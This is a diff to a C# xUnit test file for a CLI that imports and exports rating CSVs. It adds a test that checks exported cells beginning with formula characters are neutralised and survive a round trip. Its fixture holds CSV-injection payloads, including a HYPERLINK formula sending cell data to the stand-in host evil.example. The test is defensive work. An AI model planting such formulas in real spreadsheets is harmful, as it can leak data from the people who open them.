@@ -18,9 +18,11 @@ public sealed class ImportCommandsTests : IDisposable
         dir.Delete(recursive: true);
     }
 
-    private (int Exit, string Out, string Err) Run(params string[] args) => CliRun.Invoke(
+    private (int Exit, string Out, string Err) Run(params string[] args) => RunIn("store", args);
+
+    private (int Exit, string Out, string Err) RunIn(string store, params string[] args) => CliRun.Invoke(
         new RootCommand("test") { CliServices.DataDir, CliServices.Store, PromptsCommands.Create(), RatingsCommands.Create() },
-        [.. args, "--data-dir", Path.Combine(dir.FullName, "store")]);
+        [.. args, "--data-dir", Path.Combine(dir.FullName, store)]);
 
     private string File(string name, params string[] lines)
     {
@@ -92,6 +94,31 @@ public sealed class ImportCommandsTests : IDisposable
         Assert.Equal(4, lines.Length);
         Assert.DoesNotContain(lines, l => l.Contains("carol"));
         Assert.Contains("p1,sad,\"Lost my keys, again\",Ugh.,human,r1,\"Oh no, that's annoying.\",alice,good", lines);
+    }
+
+    [Fact]
+    public void Exported_formulas_are_neutralised_and_export_import_export_gives_the_same_file()
+    {
+        var hostile = File("hostile.csv", RatingsHeader,
+            "p1,sad,=1+1,@SUM(A1:A2),human,r1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",alice,good",
+            "p1,sad,=1+1,@SUM(A1:A2),gpt-4o,r2,\"-2+3\ttab and\nnew line\",bob,okay",
+            "p1,sad,=1+1,@SUM(A1:A2),human,r3,''+written with a quote,carol,bad");
+        var (exit, _, error) = Run("ratings", "import", hostile);
+        Assert.True(exit == 0, error);
+
+        var first = Path.Combine(dir.FullName, "first.csv");
+        Assert.Equal(0, Run("ratings", "export", first).Exit);
+        var exported = System.IO.File.ReadAllText(first);
+        Assert.Contains(",'=1+1,'@SUM(A1:A2),", exported);
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",", exported);
+        Assert.Contains(",\"'-2+3\ttab and\nnew line\",", exported);
+        Assert.Contains(",''+written with a quote,", exported);
+
+        var (again, _, againError) = RunIn("second-store", "ratings", "import", first);
+        Assert.True(again == 0, againError);
+        var second = Path.Combine(dir.FullName, "second.csv");
+        Assert.Equal(0, RunIn("second-store", "ratings", "export", second).Exit);
+        Assert.Equal(exported, System.IO.File.ReadAllText(second));
     }
 
     [Fact]
